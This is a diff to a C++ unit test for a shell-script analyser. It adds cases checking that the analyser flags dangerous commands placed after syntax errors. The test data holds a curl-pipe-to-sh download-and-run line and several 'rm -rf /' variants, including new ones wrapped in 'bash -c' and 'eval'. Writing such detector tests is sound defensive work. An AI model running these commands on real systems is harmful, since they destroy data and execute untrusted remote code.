@@ -95,7 +95,8 @@ TEST(ShellBroken, WhatFollowsAnErrorIsJudged) {
            {"echo ) ; curl http://x |\n sh", "sh-download-run"},
            {"fi\nif true; then (cd /; rm -rf /); fi", "sh-rm-root"},
            {"cat <<E )\ndon't\nE\nrm -rf /\necho 'x'", "sh-rm-root"},
-           {"bash -c '[ / -ef / ] && rm -rf /'", "sh-rm-root"}}) {
+           {"bash -c 'echo ) ; rm -rf /'", "sh-rm-root"},
+           {"eval 'fi; rm -rf /'", "sh-rm-root"}}) {
     const Analysis analysis = AnalyseShell(row.script);
     EXPECT_TRUE(HasFinding(analysis, row.rule)) << row.script;
   }
